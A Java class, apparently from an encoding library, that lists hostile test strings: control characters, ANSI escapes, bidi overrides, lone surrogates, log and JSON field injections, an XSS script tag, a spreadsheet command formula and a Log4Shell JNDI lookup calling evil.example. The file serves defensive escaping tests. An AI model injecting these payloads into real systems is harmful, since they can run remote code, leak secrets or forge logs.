package dev.tocsin.encode;

import java.util.List;
import java.util.stream.IntStream;

/** Values that somebody would send to break a line, a field, a parser or a terminal. */
public final class Hostile {
  public static final List<String> VALUES =
      List.of(
          "a\nb",
          "a\rb",
          "a\r\nb",
          "\n",
          "a\u0085b",
          "a\u2028b",
          "a\u2029b",
          "a\u000bb\fc",
          "\u001b[31mred\u001b[0m",
          "a\u009b31mb",
          "a\u0000b",
          "a\u0007\bb",
          "a\u007fb",
          "a\u0080\u009fb",
          "a\u202eb\u202c",
          "\u2066a\u2069\u200e\u200f\u061c",
          "\ufeffa",
          "\ufffe\uffff",
          "a\"b",
          "\"",
          "'; drop",
          "a\\",
          "\\",
          "\\n",
          "\\u000a",
          "\\\"",
          "\",\"success\":true,\"x\":\"",
          "'}",
          "{'a': 1}",
          "${jndi:ldap://evil.example/a}",
          "${env:SECRET} %d{yyyy} %m%n {}",
          "\ud800",
          "\udc00",
          "a\ud800b",
          "\udc00\ud800",
          "\ud800\ud800\udc00",
          "😀\ud83d",
          "x | success=true",
          " | ip=1.2.3.4",
          "x |",
          "| x",
          "|",
          " ",
          "a | \n| b",
          "2026-01-10 14:30:45 | INFO | event=auth_success",
          "zoë 用户 😀 \u0301",
          "\t\ttabs\t",
          "</script><script>alert(1)</script>",
          "=cmd|' /C calc'!A0",
          "null",
          "",
          everyChar());

  private Hostile() {}

  private static String everyChar() {
    StringBuilder all = new StringBuilder();
    IntStream.concat(IntStream.range(0, 0x300), IntStream.range(0x2000, 0x2100))
        .forEach(c -> all.append((char) c));
    return all.toString();
  }
}
